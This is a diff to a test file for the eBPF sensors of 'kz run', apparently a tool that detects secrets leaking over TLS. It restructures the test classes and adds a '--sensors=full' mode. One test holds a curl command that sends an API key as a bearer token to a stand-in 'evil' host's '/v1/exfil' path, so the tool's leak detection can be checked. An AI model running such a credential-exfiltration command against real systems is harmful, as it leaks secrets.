@@ -1,5 +1,7 @@
-"""The eBPF sensors of `kz run` (process tree + TLS tap), end to end with real clients
-and a real TLS server on loopback:
+"""The eBPF sensors of `kz run` with --sensors=full (process tree + the TLS tap's uprobes
+on every write of the run: the independent kernel witness), end to end with real clients
+and a real TLS server on loopback. The default witnesses (the shim in process, uprobes
+for the processes it does not serve) are in test_sensor_witness.py.
 
 * standard mode: a child that writes a secret's real value over TLS to a host the secret
   is not bound to is recorded as a "leak" with host, peer and exact lineage (python's
@@ -52,8 +54,11 @@ if WHY:
     print("SKIP: TLS tap %s" % WHY)
 
 
-@unittest.skipIf(WHY, "TLS tap %s" % WHY)
-class SensorTest(BlindTestCase):
+class SensorCase(BlindTestCase):
+    """A TLS echo server, API_KEY bound to localhost (the same server as 127.0.0.1 is
+    "another host"), and `kz run` in standard mode with SENSORS."""
+    SENSORS = ()
+
     def setUp(self):
         super().setUp()
         self.port, self.rec = self.echo_server("tls")
@@ -65,7 +70,7 @@ class SensorTest(BlindTestCase):
         self.peer = "127.0.0.1:%d" % self.port
 
     def run_std(self, *cmd, flags=()):
-        args = ["run", "--audit-log", self.audit_path, *flags, "--", *cmd]
+        args = ["run", "--audit-log", self.audit_path, *self.SENSORS, *flags, "--", *cmd]
         return self.kz(*args, env=self.kenv, timeout=120)
 
     def diag(self, r):
@@ -75,6 +80,11 @@ class SensorTest(BlindTestCase):
     def assertNoCanaryInAudit(self):
         with open(self.audit_path) as f:
             self.assertNoSecret(f.read(), CANARY, "audit log")
+
+
+@unittest.skipIf(WHY, "TLS tap %s" % WHY)
+class SensorTest(SensorCase):
+    SENSORS = ("--sensors=full",)
 
     def test_standard_leak_is_recorded_with_host_peer_and_lineage(self):
         script = self.write("leaker.py", LEAKER)
@@ -146,7 +156,7 @@ class SensorTest(BlindTestCase):
         cmd = ('curl -sS --max-time 20 --http1.1 --cacert "%s" -H "Authorization: Bearer $API_KEY" %s/v1/exfil '
                '>/dev/null; curl -sS --fail --max-time 20 --http1.1 --cacert "%s" -H "Authorization: Bearer $API_KEY" '
                '%s/v1/use >/dev/null' % (self.ca["ca"], self.evil, self.ca["ca"], self.good))
-        r = self.run_blind("/bin/bash", "-c", cmd, env=self.kenv)
+        r = self.run_blind("/bin/bash", "-c", cmd, env=self.kenv, flags=["--sensors=full"])
         self.assertEqual(r.returncode, 0, self.diag(r))
         refused = self.assertAudited("swap", decision="refuse", secret="API_KEY")
         seen = self.assertAudited("exfil", secret="API_KEY")
